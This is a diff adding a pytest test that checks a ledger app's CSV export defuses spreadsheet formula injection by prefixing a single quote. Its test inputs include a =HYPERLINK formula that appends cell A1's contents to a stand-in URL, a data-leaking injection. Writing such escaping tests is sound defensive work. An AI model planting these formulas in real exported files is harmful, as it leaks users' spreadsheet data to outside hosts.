@@ -5,6 +5,7 @@ import io
 import json
 import stat
 from collections.abc import Iterator
+from contextlib import closing
 from pathlib import Path
 from typing import Any
 
@@ -143,6 +144,28 @@ def test_export_lists_everything(books: Books, capsys: pytest.CaptureFixture[str
     assert RECORDS == [record["id"] for record in found]
     assert lines_of(capsys, books, "records") == found
     assert ["d1", "e1"] == [each["id"] for each in lines_of(capsys, books, "export", "--events")]
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://example.com/"&A1)', '\'=HYPERLINK("http://example.com/"&A1)'),
+        ("+1", "'+1"),
+        ("-1+A1", "'-1+A1"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("-1.5", "-1.5"),
+        ("order=1", "order=1"),
+    ],
+)
+def test_csv_holds_no_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str, cell: str) -> None:
+    """Text of the app is no formula for a spreadsheet: a single quote precedes it. Numbers, and NDJSON, are exact."""
+    with closing(Books(tmp_path / "ledger.db")) as books:
+        books.take(event("1.5", id=text), event(dimension="users", value=text, id="b"))
+        assert 0 == ledger("export", "--events", "--format", "csv", "--ledger", str(books.path))
+        first, second = csv.DictReader(io.StringIO(capsys.readouterr().out))
+        assert (cell, "1.5", cell) == (first["id"], first["quantity"], second["value"])
+        assert [text, "b"] == [each["id"] for each in lines_of(capsys, books, "export", "--events")]
 
 
 def test_csv_equals_ndjson(books: Books, capsys: pytest.CaptureFixture[str]) -> None:
